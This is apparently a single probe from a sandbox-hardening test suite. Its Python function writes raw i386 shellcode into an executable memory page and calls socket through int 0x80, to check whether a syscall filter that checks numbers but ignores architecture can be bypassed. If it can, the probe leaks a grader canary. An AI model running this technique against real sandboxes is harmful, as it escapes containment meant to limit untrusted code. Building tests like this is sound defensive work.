"""Runs machine code of its own: int 0x80, where the numbers are those of i386 and a filter by number
alone would let 4 (stat of x86-64, write of i386) pass.
"""
# row: own
# layer: S
# kernel: needed
# outcome: crashed, failed, raised


def attack():
    if borrow("platform").machine() != "x86_64":
        return
    ctypes, mmap = borrow("ctypes"), borrow("mmap")
    page = mmap.mmap(-1, 4096, prot=7)
    # mov eax, 359 (socket); mov ebx, 1; mov ecx, 1; xor edx, edx; int 0x80; ret
    page.write(bytes.fromhex("53b867010000bb01000000b90100000031d2cd805bc3"))
    run = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    result = run()
    if result >= 0 or result not in (-1, -13, -38):
        loot(GRADER["kernel_canary"])
    loot(result)
